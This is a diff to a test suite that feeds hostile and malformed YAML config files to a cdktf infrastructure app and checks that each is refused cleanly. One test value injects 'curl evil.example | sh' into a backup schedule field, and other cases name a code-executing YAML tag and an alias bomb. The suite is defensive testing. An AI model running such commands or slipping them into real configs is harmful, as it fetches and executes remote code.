@@ -1,9 +1,12 @@
-// Hostile and malformed environment files, run through the real app as cdktf runs it.
+// Hostile and malformed environment files, run through the app's entry point.
 //
-// Each case writes one bad file next to the valid examples in a fresh directory and
-// runs cdktf.json's `node cli/run.cjs app`. Whatever the file holds, the app must exit 1 with
-// one `<file>: <field.path or (file)>: <message>` line per problem, no stack trace, and
-// write nothing at all (one bad file blocks every environment).
+// Each case writes one bad file next to the valid examples in a fresh directory and runs the
+// app (cli/app.ts's runApp, what main.ts and cdktf.json's `node cli/run.cjs app` call) in this
+// process. Whatever the file holds, the app must return 1 with one
+// `<file>: <field.path or (file)>: <message>` line per problem, no stack trace, and write
+// nothing at all (one bad file blocks every environment). A handful of cases (END_TO_END) also
+// run as cdktf runs the app, a child process of the bundle, with the same assertions plus the
+// exit code and signal a process has, and the wall-time bounds of the costly inputs.
 import { existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { join, relative } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
@@ -16,6 +19,7 @@ import {
   STACK_TRACE,
   inPool,
   runApp,
+  runAppInProcess,
   scratchWithExamples,
   type AppRun,
   type Scratch,
@@ -82,9 +86,9 @@ interface HostileCase {
   /** The problem's line in the file, when it must be reported. */
   readonly line?: (text: string) => number;
   /**
-   * Longest acceptable wall time, as a multiple of the median run (every run starts node and
-   * the app, which on a busy 2-core machine alone takes seconds; absolute bounds are flaky).
-   * The parser's own bound is measured in-process below.
+   * Longest acceptable time, as a multiple of the median in-process run (the fastest of three
+   * runs of this case: a busy shared machine makes any single run slow; absolute bounds are
+   * flaky). The parser's own bound is measured in-process below.
    */
   readonly maxTimesMedian?: number;
 }
@@ -393,9 +397,9 @@ const cases: HostileCase[] = [
   },
   {
     what: "OnCalendar schedule with shell metacharacters (aws backups)",
-    content: stagingWith(/schedule: "\*-\*-\* 02:00:00"/, 'schedule: "*-*-* 02:00:00; curl evil.example | sh"'),
+    content: stagingWith(/schedule: "0 2 \* \* \*"/, 'schedule: "*-*-* 02:00:00; curl evil.example | sh"'),
     path: "backups.schedule",
-    message: /must be a systemd OnCalendar expression, e.g\. '\*-\*-\* 02:00:00'/,
+    message: /invalid cron schedule: must have five fields/,
   },
   // ---- parser robustness ----
   {
@@ -422,41 +426,77 @@ interface CaseRun extends AppRun {
   readonly configLeft: readonly string[];
 }
 
-async function runCase(c: HostileCase): Promise<CaseRun> {
+/** Writes the case's bad file beside the examples in a fresh scratch directory. */
+function prepare(c: HostileCase): { scratch: Scratch; file: string; text: string } {
   const scratch = scratchWithExamples("hostile-input-");
   const file = join(scratch.configDir, c.file ?? "qa.yaml");
   const content = c.content();
   writeFileSync(file, content);
-  const run = await runApp(scratch.configDir, scratch.outdir);
+  return { scratch, file, text: typeof content === "string" ? content : Buffer.from(content).toString("latin1") };
+}
+
+function finish(prepared: ReturnType<typeof prepare>, run: AppRun): CaseRun {
+  const { scratch, file, text } = prepared;
   return {
     ...run,
     scratch,
     shown: [relative(REPO_ROOT, file), file],
-    text: typeof content === "string" ? content : Buffer.from(content).toString("latin1"),
+    text,
     left: readdirSync(scratch.dir).sort(),
     configLeft: readdirSync(scratch.configDir).sort(),
   };
 }
 
+function runInProcess(c: HostileCase): CaseRun {
+  const prepared = prepare(c);
+  return finish(prepared, runAppInProcess(prepared.scratch.configDir, prepared.scratch.outdir));
+}
+
+async function runAsChildProcess(c: HostileCase): Promise<CaseRun> {
+  const prepared = prepare(c);
+  return finish(prepared, await runApp(prepared.scratch.configDir, prepared.scratch.outdir));
+}
+
 const BOM_VALID = "UTF-8 BOM before a valid file";
+// Not a failure: a UTF-8 BOM is legal YAML (YAML 1.2, 5.2), editors on Windows add it, and the
+// decoder strips it, so such a file is accepted like any other (checked below). Its own host
+// names and Docker host: a plain copy would collide with homelab.yaml.
+const bomValid: HostileCase = {
+  what: BOM_VALID,
+  file: "bom.yaml",
+  content: () => `\uFEFF${example("homelab").replace(/^domain: .*$/m, "domain: bom.example.com").replace("publicAddress: 192.0.2.10", "publicAddress: 192.0.2.30")}`,
+  path: "",
+  message: /^$/,
+};
+
+/**
+ * The cases also run as a child process of the bundle: ordinary refusals (a schema problem
+ * with its line, bytes that are not text, a code-executing tag), the costly inputs (a
+ * resource-exhaustion attack, a file too big), and the valid BOM file that synthesizes.
+ */
+const END_TO_END = [
+  "string for a number (quoted port)",
+  "not UTF-8 (bytes 0xff 0xfe inside)",
+  "custom tag !!js/function",
+  "YAML alias bomb (billion laughs)",
+  "huge file (5 MB of valid-looking YAML) is refused fast",
+];
+const endToEnd = [...cases.filter((c) => END_TO_END.includes(c.what)), bomValid];
+
 const runs = new Map<string, CaseRun>();
+const childRuns = new Map<string, CaseRun>();
 
 beforeAll(async () => {
-  const all: HostileCase[] = [
-    ...cases,
-    // Not a failure: a UTF-8 BOM is legal YAML (YAML 1.2, 5.2), editors on Windows add it,
-    // and the decoder strips it, so such a file is accepted like any other (checked below).
-    // Its own host names and Docker host: a plain copy would collide with homelab.yaml.
-    { what: BOM_VALID, file: "bom.yaml", content: () => `\uFEFF${example("homelab").replace(/^domain: .*$/m, "domain: bom.example.com").replace("publicAddress: 192.0.2.10", "publicAddress: 192.0.2.30")}`, path: "", message: /^$/ },
-  ];
-  const results = await inPool(all, 2, runCase);
-  all.forEach((c, i) => runs.set(c.what, results[i]!));
+  for (const c of cases) runs.set(c.what, runInProcess(c));
+  const results = await inPool(endToEnd, 2, runAsChildProcess);
+  endToEnd.forEach((c, i) => childRuns.set(c.what, results[i]!));
 }, 180_000);
 
 afterAll(() => {
-  for (const r of runs.values()) rmSync(r.scratch.dir, { recursive: true, force: true });
+  for (const r of [...runs.values(), ...childRuns.values()]) rmSync(r.scratch.dir, { recursive: true, force: true });
 });
 
+/** The median time of the in-process runs. */
 function medianMs(): number {
   const ms = [...runs.values()].map((r) => r.ms).sort((a, b) => a - b);
   return ms[Math.floor(ms.length / 2)] ?? Number.NaN;
@@ -464,7 +504,42 @@ function medianMs(): number {
 
 const SUMMARY = /^\d+ problem\(s\) found; nothing was synthesized\.$/;
 
-describe("hostile environment files, through the real app", () => {
+/** What every refused file must produce: the problem line, nothing else, nothing written. */
+function expectRefused(c: HostileCase, r: CaseRun): void {
+  const report = `exit ${r.status}${r.signal ? ` (${r.signal})` : ""} after ${Math.round(r.ms)} ms\n--- stderr ---\n${r.stderr}--- stdout ---\n${r.stdout}`;
+
+  // A user sees problem lines, never the app's insides.
+  expect(r.stderr, `stack trace in stderr:\n${report}`).not.toMatch(STACK_TRACE);
+  expect(r.stderr, `uncaught error in stderr:\n${report}`).not.toMatch(NODE_ERROR_PREFIX);
+  expect(r.stderr, report).not.toMatch(NODE_INTERNAL);
+  expect(r.stdout, report).not.toMatch(STACK_TRACE);
+  expect(r.stdout, report).not.toMatch(NODE_INTERNAL);
+  expect(r.signal, report).toBeNull();
+  expect(r.status, report).toBe(1);
+
+  // The expected line: `<file>: <path>: <message>`, with the line number where one is required.
+  const prefix = `^(?:${r.shown.map(escape).join("|")}): ${escape(c.path)}: `;
+  const lines = r.stderr.split("\n").filter((l) => l !== "");
+  const expected = new RegExp(`${prefix}(?:${c.message.source})`, c.message.flags.replace("g", ""));
+  const hit = lines.find((l) => expected.test(l));
+  expect(hit, `no line matching ${expected}:\n${report}`).toBeDefined();
+  if (c.line) expect(hit, report).toMatch(new RegExp(`\\(line ${c.line(r.text)}, column \\d+\\)$`));
+
+  // Every problem is in the bad file (the examples are fine), and the summary closes the report.
+  const problemLines = lines.slice(0, -1);
+  for (const l of problemLines) expect(l, report).toMatch(new RegExp(`^(?:${r.shown.map(escape).join("|")}): `));
+  expect(lines.at(-1), report).toMatch(SUMMARY);
+  expect(lines.at(-1), report).toContain(`${problemLines.length} problem(s)`);
+
+  // Nothing was written: no output, no scratch directory, the config directory untouched.
+  expect(existsSync(r.scratch.outdir)).toBe(false);
+  expect(r.left, "files left beside the config directory").toEqual(["config"]);
+  expect(r.configLeft).toEqual([...EXAMPLES, c.file ?? "qa.yaml"].sort());
+
+  expect(r.ms, `the run took ${Math.round(r.ms)} ms`).toBeLessThan(20_000);
+}
+
+describe("hostile environment files, through the app's entry point", () => {
   it("covers at least 30 malformed files, each with a distinct description", () => {
     expect(cases.length).toBeGreaterThanOrEqual(30);
     expect(new Set(cases.map((c) => c.what)).size).toBe(cases.length);
@@ -473,42 +548,30 @@ describe("hostile environment files, through the real app", () => {
   it.each(cases.map((c) => [c.what, c] as const))("%s", (what, c) => {
     const r = runs.get(what);
     if (!r) throw new Error(`no run for ${what}`);
-    const report = `exit ${r.status}${r.signal ? ` (${r.signal})` : ""} after ${Math.round(r.ms)} ms\n--- stderr ---\n${r.stderr}--- stdout ---\n${r.stdout}`;
+    expectRefused(c, r);
+    if (c.maxTimesMedian) {
+      const again = [runInProcess(c), runInProcess(c)];
+      for (const a of again) rmSync(a.scratch.dir, { recursive: true, force: true });
+      const fastest = Math.min(r.ms, ...again.map((a) => a.ms));
+      expect(fastest, `the fastest of three runs took ${Math.round(fastest)} ms, the median run ${Math.round(medianMs())} ms`).toBeLessThan(c.maxTimesMedian * medianMs());
+    }
+  });
+});
 
-    // A user sees problem lines, never the app's insides.
-    expect(r.stderr, `stack trace in stderr:\n${report}`).not.toMatch(STACK_TRACE);
-    expect(r.stderr, `uncaught error in stderr:\n${report}`).not.toMatch(NODE_ERROR_PREFIX);
-    expect(r.stderr, report).not.toMatch(NODE_INTERNAL);
-    expect(r.stdout, report).not.toMatch(STACK_TRACE);
-    expect(r.stdout, report).not.toMatch(NODE_INTERNAL);
-    expect(r.signal, report).toBeNull();
-    expect(r.status, report).toBe(1);
+describe("hostile environment files, through the real app as cdktf runs it (a child process)", () => {
+  it("END_TO_END names cases, among them every costly one", () => {
+    expect(endToEnd.map((c) => c.what).sort()).toEqual([...END_TO_END, BOM_VALID].sort());
+    for (const c of cases.filter((c) => c.maxTimesMedian)) expect(END_TO_END).toContain(c.what);
+  });
 
-    // The expected line: `<file>: <path>: <message>`, with the line number where one is required.
-    const prefix = `^(?:${r.shown.map(escape).join("|")}): ${escape(c.path)}: `;
-    const lines = r.stderr.split("\n").filter((l) => l !== "");
-    const expected = new RegExp(`${prefix}(?:${c.message.source})`, c.message.flags.replace("g", ""));
-    const hit = lines.find((l) => expected.test(l));
-    expect(hit, `no line matching ${expected}:\n${report}`).toBeDefined();
-    if (c.line) expect(hit, report).toMatch(new RegExp(`\\(line ${c.line(r.text)}, column \\d+\\)$`));
-
-    // Every problem is in the bad file (the examples are fine), and the summary closes the report.
-    const problemLines = lines.slice(0, -1);
-    for (const l of problemLines) expect(l, report).toMatch(new RegExp(`^(?:${r.shown.map(escape).join("|")}): `));
-    expect(lines.at(-1), report).toMatch(SUMMARY);
-    expect(lines.at(-1), report).toContain(`${problemLines.length} problem(s)`);
-
-    // Nothing was written: no output, no scratch directory, the config directory untouched.
-    expect(existsSync(r.scratch.outdir)).toBe(false);
-    expect(r.left, "files left beside the config directory").toEqual(["config"]);
-    expect(r.configLeft).toEqual([...EXAMPLES, c.file ?? "qa.yaml"].sort());
-
-    expect(r.ms, `the run took ${Math.round(r.ms)} ms`).toBeLessThan(20_000);
-    if (c.maxTimesMedian) expect(r.ms, `the run took ${Math.round(r.ms)} ms, the median run ${Math.round(medianMs())} ms`).toBeLessThan(c.maxTimesMedian * medianMs());
+  it.each(endToEnd.filter((c) => c !== bomValid).map((c) => [c.what, c] as const))("%s", (what, c) => {
+    const r = childRuns.get(what);
+    if (!r) throw new Error(`no run for ${what}`);
+    expectRefused(c, r);
   });
 
   it("accepts a UTF-8 BOM before a valid file and synthesizes it like any other", () => {
-    const r = runs.get(BOM_VALID);
+    const r = childRuns.get(BOM_VALID);
     if (!r) throw new Error("no run for the BOM case");
     expect(r.stderr).toBe("");
     expect(r.status).toBe(0);
